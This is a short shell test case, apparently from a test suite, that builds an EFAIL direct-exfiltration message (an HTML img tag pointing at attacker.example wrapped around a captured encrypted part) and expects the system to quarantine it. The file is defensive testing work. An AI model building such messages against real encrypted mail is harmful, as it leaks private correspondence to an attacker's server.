# EFAIL direct exfiltration by a registered client: erin signs and
# encrypts her own entry, a multipart/mixed of an HTML part opening
# <img src="http://attacker.example/? , alice's captured multipart/encrypted
# and an HTML part closing the quote.  A therapist's mail client that
# decrypted the middle part would leak alice's words to erin's server.
#
# Expected: quarantined as partial; alice's words show nowhere, and erin's
# journal gains nothing.
case_class=efail
case_title='direct exfiltration in a signed entry of an insider'
case_expect=quarantine:partial
case_msgid=efail.exfil3@client.example
case_build() {
	make_mime_entry "Private" "$(secret_of alice) private words three" >in &&
	adv_se alice in captured.asc &&
	adv_text_part '<html><body><img src="http://attacker.example/?' 'text/html' >p1 &&
	adv_enc_entity captured.asc enc-b >p2 &&
	adv_text_part '"></body></html>' 'text/html' >p3 &&
	adv_mixed mix-b p1 p2 p3 >inner &&
	adv_se erin inner c.asc &&
	adv_wrap "erin@$D" "Exfil 3" "$case_msgid" c.asc
}
